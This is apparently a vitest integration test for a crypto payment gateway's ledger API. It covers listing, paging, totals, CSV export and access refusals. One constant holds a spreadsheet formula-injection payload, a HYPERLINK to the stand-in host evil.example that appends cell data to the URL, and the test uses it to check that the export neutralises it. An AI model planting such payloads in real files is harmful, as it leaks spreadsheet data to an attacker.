// The ledger over REST (issue 40, goal 5; docs/ledger.md) on the database alone: test-helper payments
// in LTC and ETH, a succeeded refund and a confirmed consolidation, a live payment and another
// merchant's. The entries are what was recorded, newest first and paged; the totals per coin and
// network add up to the entries; the CSV parses back with exact decimals and a hostile description
// defused; every refusal with its status and message; a key sees its own merchant and mode only.
// The chain side (totals against what a node holds) is test/e2e/ltc-ledger.test.ts.
import { randomUUID } from "node:crypto";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { freshActor } from "../support/dashboard.ts";
import { PaygateError } from "../../src/core/errors.ts";
import { Decimal } from "../../src/core/money/amounts.ts";
import { HTTP_STATUS } from "../../src/edge/status.ts";
import { systemClock } from "../../src/core/gateway.ts";
import { initializeBody } from "../support/builders.ts";
import { startTestGateway, type TestGateway } from "../support/gateway.ts";

let t: TestGateway;
let keys: Awaited<ReturnType<TestGateway["merchant"]>>;
let other: Awaited<ReturnType<TestGateway["merchant"]>>;

const LTC_TEST_ADDRESS = "tltc1q33andx3shykl4uhyerlfhkl7u64mwvz9sa0pdn";
const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const bearer = (key: string) => ({ authorization: `Bearer ${key}` });

interface Entry {
  id: string;
  kind: string;
  direction: string;
  is_live: boolean;
  occurred_at: string;
  coin: string;
  network: string;
  amount: string;
  fee: string | null;
  tx_hash: string | null;
  transaction_id: string | null;
  description: string | null;
  fiat_currency: string | null;
  locked_rate: string | null;
  fiat_value_at_locked_rate: string | null;
  rate_at_time: string | null;
  fiat_value_at_time: string | null;
}
interface Totals {
  coin: string;
  network: string;
  receipts: number;
  received: string;
  refunds: number;
  refunded: string;
  refund_fees: string;
  consolidations: number;
  consolidated: string;
  consolidation_fees: string;
  flushes: number;
  flushed: string;
  sweeps: number;
  swept: string;
  sweep_fees: string;
  own_sweep_fees: string;
  net: string;
}

const get = async (path: string, key = keys.testSecretKey) => {
  const res = await fetch(`${t.url}${path}`, { headers: bearer(key) });
  const text = await res.text();
  return {
    status: res.status,
    headers: res.headers,
    text,
    body: res.headers.get("content-type")?.startsWith("application/json") ? JSON.parse(text) : null,
  };
};

async function paid(currencyId: string, description: string, key = keys) {
  const init = await t.post("/v1/transaction", initializeBody({ amount: "100", description }), bearer(key.testPublicKey));
  expect(init.status).toBe(201);
  const id: string = init.body.data.id;
  const pay = currencyId === "7" ? { currency_id: currencyId, refund_address: LTC_TEST_ADDRESS } : { currency_id: currencyId };
  expect((await t.post(`/v1/transaction/${id}/pay`, pay, bearer(key.testSecretKey))).status).toBe(200);
  expect((await t.post(`/v1/test_helpers/transaction/${id}/payment`, {}, bearer(key.testSecretKey))).status).toBe(200);
  return id;
}

let ltcIds: string[];
let ethId: string;
let refundId: string;
let consolidationId: string;
let liveReceiptAmount: string;

beforeAll(async () => {
  t = await startTestGateway();
  keys = await t.merchant({ name: "Ledger Books Ltd" });
  other = await t.merchant({ name: "Someone Else's Books" });
  ltcIds = [await paid("7", HOSTILE), await paid("7", "+SUM(1,2)"), await paid("7", "plain, with a comma")];
  ethId = await paid("6", "@ETH order");
  await paid("7", "another merchant's", other);

  // A succeeded refund: a third of the first LTC payment, marked paid by the merchant and verified.
  const first = await t.db.transaction.findUniqueOrThrow({ where: { id: ltcIds[0] } });
  const third = new Decimal(first.amountPaid?.toString() ?? "0").dividedBy(3).toDecimalPlaces(8, Decimal.ROUND_DOWN);
  const created = await t.post(
    `/v1/transaction/${ltcIds[0]}/refunds`,
    { amount_kind: "custom", amount: third.toFixed(), amount_currency: "LTC" },
    bearer(keys.testSecretKey),
  );
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  refundId = created.body.data.id;
  await t.db.refund.update({ where: { id: refundId }, data: { networkFee: "0.0000141" } });
  const hash = "ab".repeat(32);
  expect((await t.post(`/v1/refunds/${refundId}/mark_paid`, { tx_hash: hash }, bearer(keys.testSecretKey))).status).toBe(200);
  const done = await t.gateway.refunds.refundSucceeded(refundId, hash, "merchant");
  expect(done !== "tx_taken" && done?.state).toBe("succeeded");

  // A confirmed consolidation of the other two LTC payments (as the watcher leaves one: no node here).
  const inputs = await t.db.transaction.findMany({ where: { id: { in: ltcIds.slice(1) } } });
  const total = inputs.reduce((sum, x) => sum.plus(x.amountPaid?.toString() ?? "0"), new Decimal(0));
  consolidationId = `co_${randomUUID()}`;
  const now = new Date();
  await t.db.consolidation.create({
    data: {
      id: consolidationId,
      merchantId: keys.id,
      isLive: false,
      coin: "LTC",
      network: "litecoin",
      state: "confirmed",
      destination: LTC_TEST_ADDRESS,
      feeRate: "5",
      total: total.toFixed(),
      networkFee: "0.0000104",
      amountToReceive: total.minus("0.0000104").toFixed(),
      psbt: "cHNidP8=",
      txHash: "cd".repeat(32),
      createdAt: now,
      seenAt: now,
      confirmedAt: now,
    },
  });
  // A canceled one is no entry.
  await t.db.consolidation.create({
    data: {
      id: `co_${randomUUID()}`,
      merchantId: keys.id,
      isLive: false,
      coin: "LTC",
      network: "litecoin",
      state: "canceled",
      destination: LTC_TEST_ADDRESS,
      feeRate: "5",
      total: "1",
      networkFee: "0.1",
      amountToReceive: "0.9",
      psbt: "cHNidP8=",
      txHash: "ef".repeat(32),
      createdAt: now,
      canceledAt: now,
    },
  });

  // A live payment's confirmed receipt, written as the watcher writes one.
  liveReceiptAmount = "0.12345678";
  const live = await t.db.transaction.create({
    data: {
      id: `live-${randomUUID()}`,
      reference: `ref-${randomUUID()}`,
      merchantId: keys.id,
      customerEmail: "ada@example.com",
      customerEmailKey: "ada@example.com",
      isLive: true,
      status: "SUCCESSFUL",
      initializedAmount: "10",
      initializedCurrencyId: 1,
      paymentCurrencyId: 7,
      paymentNetwork: "litecoin",
      paymentAmount: liveReceiptAmount,
      amountPaid: liveReceiptAmount,
      quoteRate: "81.0000000005",
      paymentAddress: "ltc1qqurswpc8qurswpc8qurswpc8qurswpc8p4r4uu",
    },
  });
  await t.db.paymentReceipt.create({
    data: {
      transactionId: live.id,
      key: `${"12".repeat(32)}:0`,
      txHash: "12".repeat(32),
      amount: liveReceiptAmount,
      confirmations: 6,
      status: "CONFIRMED",
      source: "chain",
      firstSeenAt: now,
      updatedAt: now,
    },
  });
}, 60_000);
afterAll(() => t?.close());

async function allEntries(query = "", key = keys.testSecretKey): Promise<Entry[]> {
  const entries: Entry[] = [];
  let after = "";
  for (;;) {
    const page = await get(`/v1/ledger/entries?limit=2${query}${after}`, key);
    expect(page.status, page.text).toBe(200);
    entries.push(...(page.body.data as Entry[]));
    if (!page.body.has_more) return entries;
    after = `&starting_after=${encodeURIComponent((page.body.data as Entry[]).at(-1)?.id ?? "")}`;
  }
}

describe("the ledger's entries", () => {
  it("lists every receipt, the succeeded refund and the confirmed consolidation, newest first, paged as the other lists", async () => {
    const entries = await allEntries();
    const whole = await get("/v1/ledger/entries?limit=100");
    expect(whole.body.data).toEqual(entries);
    expect(entries.map((e) => e.kind).sort()).toEqual(["consolidation", "receipt", "receipt", "receipt", "receipt", "refund"]);
    for (let i = 1; i < entries.length; i++) {
      const [a, b] = [entries[i - 1] as Entry, entries[i] as Entry];
      expect(a.occurred_at > b.occurred_at || (a.occurred_at === b.occurred_at && a.id > b.id)).toBe(true);
    }
    expect(entries.every((e) => e.is_live === false)).toBe(true);
    // Every kind of entry serves as a cursor: the page after it is the rest of the list.
    for (const [i, e] of entries.entries()) {
      const after = await get(`/v1/ledger/entries?limit=100&starting_after=${encodeURIComponent(e.id)}`);
      expect(
        (after.body.data as Entry[]).map((x) => x.id),
        e.id,
      ).toEqual(entries.slice(i + 1).map((x) => x.id));
    }

    for (const id of [...ltcIds, ethId]) {
      const row = await t.db.transaction.findUniqueOrThrow({ where: { id } });
      const receipt = entries.find((e) => e.kind === "receipt" && e.transaction_id === id) as Entry;
      const amount = new Decimal(row.amountPaid?.toString() ?? "NaN");
      const rate = new Decimal(row.quoteRate?.toString() ?? "NaN");
      expect(receipt).toMatchObject({
        direction: "in",
        coin: id === ethId ? "ETH" : "LTC",
        network: id === ethId ? "ethereum" : "litecoin",
        amount: amount.toFixed(),
        fee: null,
        description: row.description,
        fiat_currency: "USD",
        locked_rate: rate.toFixed(),
        fiat_value_at_locked_rate: amount.times(rate).toDecimalPlaces(2, Decimal.ROUND_DOWN).toFixed(2),
        rate_at_time: null,
        fiat_value_at_time: null,
      });
    }
    const refund = await t.db.refund.findUniqueOrThrow({ where: { id: refundId } });
    expect(entries.find((e) => e.kind === "refund")).toMatchObject({
      id: `refund:${refundId}`,
      direction: "out",
      coin: "LTC",
      amount: new Decimal(refund.amountToCustomer.toString()).toFixed(),
      fee: "0.0000141",
      tx_hash: "ab".repeat(32),
      transaction_id: ltcIds[0],
      rate_at_time: new Decimal(refund.rate.toString()).toFixed(),
    });
    expect(entries.find((e) => e.kind === "consolidation")).toMatchObject({
      id: `consolidation:${consolidationId}`,
      direction: "internal",
      coin: "LTC",
      network: "litecoin",
      fee: "0.0000104",
      tx_hash: "cd".repeat(32),
      transaction_id: null,
      fiat_currency: null,
      fiat_value_at_locked_rate: null,
    });
  });

  it("filters by coin, network, kind and period", async () => {
    const entries = await allEntries();
    expect((await allEntries("&coin=eth")).map((e) => e.id)).toEqual(entries.filter((e) => e.coin === "ETH").map((e) => e.id));
    expect((await allEntries("&network=litecoin")).map((e) => e.id)).toEqual(entries.filter((e) => e.network === "litecoin").map((e) => e.id));
    expect((await allEntries("&kind=refund&coin=LTC&network=litecoin")).map((e) => e.id)).toEqual([`refund:${refundId}`]);
    expect(await allEntries("&mode=test")).toEqual(entries);
    const oldest = entries.at(-1) as Entry;
    const newest = entries[0] as Entry;
    expect(await allEntries(`&to=${encodeURIComponent(oldest.occurred_at)}`)).toEqual([]);
    expect(await allEntries(`&from=${encodeURIComponent(oldest.occurred_at)}`)).toEqual(entries);
    const afterNewest = new Date(Date.parse(newest.occurred_at) + 1).toISOString();
    expect(await allEntries(`&from=${encodeURIComponent(afterNewest)}`)).toEqual([]);
    expect(await allEntries("&from=2000-01-01&to=2999-01-01")).toEqual(entries);
  });

  it("totals per coin and network that add up to the entries", async () => {
    const entries = await allEntries();
    const got = await get("/v1/ledger/totals");
    expect(got.status, got.text).toBe(200);
    expect(got.body.data).toMatchObject({ is_live: false, from: null, to: null });
    const totals = got.body.data.totals as Totals[];
    expect(totals.map((x) => [x.coin, x.network])).toEqual([
      ["ETH", "ethereum"],
      ["LTC", "litecoin"],
    ]);
    const sum = (coin: string, kind: string, field: "amount" | "fee") =>
      entries.filter((e) => e.coin === coin && e.kind === kind).reduce((s, e) => s.plus(e[field] ?? 0), new Decimal(0));
    for (const line of totals) {
      const received = sum(line.coin, "receipt", "amount");
      const refunded = sum(line.coin, "refund", "amount");
      const refundFees = sum(line.coin, "refund", "fee");
      const consolidationFees = sum(line.coin, "consolidation", "fee");
      expect(line).toEqual({
        coin: line.coin,
        network: line.network,
        receipts: entries.filter((e) => e.coin === line.coin && e.kind === "receipt").length,
        received: received.toFixed(),
        refunds: entries.filter((e) => e.coin === line.coin && e.kind === "refund").length,
        refunded: refunded.toFixed(),
        refund_fees: refundFees.toFixed(),
        consolidations: entries.filter((e) => e.coin === line.coin && e.kind === "consolidation").length,
        consolidated: sum(line.coin, "consolidation", "amount").toFixed(),
        consolidation_fees: consolidationFees.toFixed(),
        flushes: 0,
        flushed: "0",
        sweeps: 0,
        swept: "0",
        sweep_fees: "0",
        own_sweep_fees: "0",
        net: received.minus(refunded).minus(refundFees).minus(consolidationFees).toFixed(),
      });
    }
    const ltc = totals.find((x) => x.coin === "LTC") as Totals;
    expect([ltc.receipts, ltc.refunds, ltc.consolidations, ltc.refund_fees, ltc.consolidation_fees]).toEqual([3, 1, 1, "0.0000141", "0.0000104"]);
    // The same filters as the list.
    const onlyEth = await get("/v1/ledger/totals?coin=ETH&from=2000-01-01&to=2999-01-01");
    expect(onlyEth.body.data).toMatchObject({ from: "2000-01-01T00:00:00.000Z", to: "2999-01-01T00:00:00.000Z" });
    expect(onlyEth.body.data.totals).toEqual(totals.filter((x) => x.coin === "ETH"));
  });

  it("exports a period as CSV that parses back: one header row, exact decimals, hostile cells defused", async () => {
    const entries = await allEntries();
    const got = await get("/v1/ledger/entries.csv?from=2000-01-01&to=2999-01-01");
    expect(got.status).toBe(200);
    expect(got.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(got.headers.get("content-disposition")).toBe('attachment; filename="ledger-test-2000-01-01-2999-01-01.csv"');
    const rows = parse(got.text, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0] ?? {})).toEqual([
      "id",
      "kind",
      "direction",
      "mode",
      "occurred_at",
      "coin",
      "network",
      "amount",
      "fee",
      "fee_coin",
      "tx_hash",
      "address",
      "transaction_id",
      "reference",
      "description",
      "fiat_currency",
      "locked_rate",
      "fiat_value_at_locked_rate",
      "rate_at_time",
      "fiat_value_at_time",
      "top_up_tx_hash",
      "top_up_fee",
    ]);
    expect(got.text.split("\r\n").filter((line) => line.startsWith("id,"))).toHaveLength(1);
    expect(rows.map((r) => r.id)).toEqual(entries.map((e) => e.id));
    for (const [i, row] of rows.entries()) {
      const e = entries[i] as Entry;
      expect([row.amount, row.fee, row.locked_rate, row.fiat_value_at_locked_rate, row.mode]).toEqual([
        e.amount,
        e.fee ?? "",
        e.locked_rate ?? "",
        e.fiat_value_at_locked_rate ?? "",
        "test",
      ]);
    }
    const description = (id: string) => rows.find((r) => r.transaction_id === id && r.kind === "receipt")?.description;
    expect(description(ltcIds[0] as string)).toBe(`'${HOSTILE}`);
    expect(description(ltcIds[1] as string)).toBe("'+SUM(1,2)");
    expect(description(ltcIds[2] as string)).toBe("plain, with a comma");
    expect(description(ethId)).toBe("'@ETH order");
    // A period with nothing in it: the header alone.
    const empty = await get("/v1/ledger/entries.csv?from=2001-01-01&to=2001-02-01");
    expect(parse(empty.text)).toEqual([[...Object.keys(rows[0] ?? {})]]);
  });
});

describe("the walls", () => {
  it("a key reads its own merchant and mode only", async () => {
    const live = await allEntries("", keys.liveSecretKey);
    expect(live.map((e) => [e.kind, e.is_live, e.amount])).toEqual([["receipt", true, liveReceiptAmount]]);
    // 0.12345678 × 81.0000000005 = 9.9999991…: rounded down to the cent.
    expect(live[0]?.fiat_value_at_locked_rate).toBe("9.99");
    const liveTotals = (await get("/v1/ledger/totals", keys.liveSecretKey)).body.data.totals as Totals[];
    expect(liveTotals.map((x) => [x.coin, x.received, x.net])).toEqual([["LTC", liveReceiptAmount, liveReceiptAmount]]);
    const csv = parse((await get("/v1/ledger/entries.csv?from=2000-01-01&to=2999-01-01", keys.liveSecretKey)).text, { columns: true }) as Record<
      string,
      string
    >[];
    expect(csv.map((r) => r.mode)).toEqual(["live"]);
    // The other merchant sees its one payment and none of these; a cursor of this merchant's is none of its.
    const theirs = await allEntries("", other.testSecretKey);
    expect(theirs.map((e) => e.description)).toEqual(["another merchant's"]);
    const test = await allEntries();
    const cursor = await get(`/v1/ledger/entries?starting_after=${encodeURIComponent(test[0]?.id ?? "")}`, other.testSecretKey);
    expect([cursor.status, cursor.body.reason]).toEqual([400, "unknown_cursor"]);
    const liveCursor = await get(`/v1/ledger/entries?starting_after=${encodeURIComponent(live[0]?.id ?? "")}`);
    expect([liveCursor.status, liveCursor.body.reason]).toEqual([400, "unknown_cursor"]);
  });

  it("refuses bad queries with 400 naming each parameter", async () => {
    const refusals: [string, string][] = [
      [
        "/v1/ledger/entries?from=2026-12-02&to=2026-12-01",
        "Invalid query parameter: to must be after from (2026-12-02T00:00:00.000Z): the period is from (inclusive) to (exclusive)",
      ],
      [
        "/v1/ledger/totals?from=2026-12-01&to=2026-12-01",
        "Invalid query parameter: to must be after from (2026-12-01T00:00:00.000Z): the period is from (inclusive) to (exclusive)",
      ],
      [
        "/v1/ledger/entries?from=yesterday",
        "Invalid query parameter: from must be a day (2026-12-01, midnight UTC) or an ISO 8601 date-time with its offset (2026-12-01T09:30:00Z)",
      ],
      [
        "/v1/ledger/entries?to=2026-02-30",
        "Invalid query parameter: to must be a day (2026-12-01, midnight UTC) or an ISO 8601 date-time with its offset (2026-12-01T09:30:00Z)",
      ],
      ["/v1/ledger/entries?coin=DOGE", "Invalid query parameter: coin must be one of USDT, BTC, BNB, ETH, LTC, USDC"],
      [
        "/v1/ledger/totals?network=solana",
        "Invalid query parameter: network must be one of ethereum, bsc, base, polygon, arbitrum, tron, bitcoin, litecoin",
      ],
      ["/v1/ledger/entries?coin=LTC&network=ethereum", "Invalid query parameter: network LTC is paid on litecoin, not ethereum"],
      ["/v1/ledger/entries?kind=transfer", "Invalid query parameter: kind must be one of receipt, refund, consolidation, flush, sweep"],
      [
        "/v1/ledger/entries?mode=live",
        "Invalid query parameter: mode must be test: a test-mode key reads test-mode entries only; use the live secret key for live mode",
      ],
      ["/v1/ledger/entries?currency=LTC", "Invalid query parameter: currency is not a parameter of this list"],
      ["/v1/ledger/entries?coin=LTC&coin=ETH", "Invalid query parameter: coin must be given once, as a single value"],
      ["/v1/ledger/entries?limit=0", "Invalid query parameter: limit must be an integer from 1 to 100"],
      [
        "/v1/ledger/entries?starting_after=receipt:nope",
        "Invalid query parameter: starting_after must be the id of a ledger entry of the previous page (receipt:…, refund:re_…, consolidation:co_…)",
      ],
      [
        "/v1/ledger/entries?starting_after=receipt:999999",
        "Invalid query parameter: starting_after names no object of this merchant and mode ('receipt:999999'); pass the id of the last object of the previous page",
      ],
      ["/v1/ledger/entries.csv?to=2026-12-01", "Invalid query parameter: from is required: an export covers a stated period"],
      [
        "/v1/ledger/entries.csv",
        "Invalid query parameters: from is required: an export covers a stated period; to is required: an export covers a stated period",
      ],
      ["/v1/ledger/entries.csv?from=2026-12-01&to=2026-11-01&limit=5", "Invalid query parameter: limit is not a parameter of this list"],
    ];
    for (const [path, message] of refusals) {
      const got = await get(path);
      expect([got.status, got.body?.status, got.body?.message], path).toEqual([400, "error", message]);
    }
  });

  it("refuses without a secret key (401), and a key whose rolled-by role may not read payments (403)", async () => {
    for (const path of ["/v1/ledger/entries", "/v1/ledger/totals", "/v1/ledger/entries.csv?from=2026-12-01&to=2026-12-02"]) {
      const publicKey = await get(path, keys.testPublicKey);
      expect([publicKey.status, publicKey.body.code], path).toEqual([401, "unauthenticated"]);
    }
    // A key rolled by a user whose role (as recorded on the key) is none today holds no permission.
    const key = await t.db.apiKey.findFirstOrThrow({ where: { merchantId: keys.id, kind: "SECRET", isLive: false, revokedAt: null } });
    await t.db.apiKey.update({
      where: { id: key.id },
      data: { createdByRole: "auditor", createdByUserId: "usr_gone", createdByEmail: "gone@example.com" },
    });
    try {
      for (const path of ["/v1/ledger/entries", "/v1/ledger/totals", "/v1/ledger/entries.csv?from=2026-12-01&to=2026-12-02"]) {
        const refused = await get(path);
        expect([refused.status, refused.body.reason, refused.body.message], path).toEqual([
          403,
          "key_role_forbidden",
          "This key was rolled by a auditor, and that role cannot read: use a key rolled by an owner, or ask an owner of this merchant",
        ]);
      }
    } finally {
      await t.db.apiKey.update({ where: { id: key.id }, data: { createdByRole: null, createdByUserId: null, createdByEmail: null } });
    }
  });

  it("reads for every dashboard role (each can view payments); a user who must enrol a second factor first is refused 403", async () => {
    for (const role of ["owner", "developer", "viewer"] as const) {
      const page = await t.gateway.ledger.listEntries(t.gateway.access.dashboard(freshActor(keys.id, role, systemClock)), {});
      expect(page.entries.length, role).toBeGreaterThan(0);
    }
    const actor = { ...freshActor(keys.id, "viewer", systemClock), mustEnrolSecondFactor: true };
    let refused: unknown;
    try {
      await t.gateway.ledger.totals(t.gateway.access.dashboard(actor), {});
    } catch (error) {
      refused = error;
    }
    expect(refused).toBeInstanceOf(PaygateError);
    const error = refused as PaygateError;
    expect([HTTP_STATUS[error.code], error.reason]).toEqual([403, "second_factor_enrolment_required"]);
  });
});
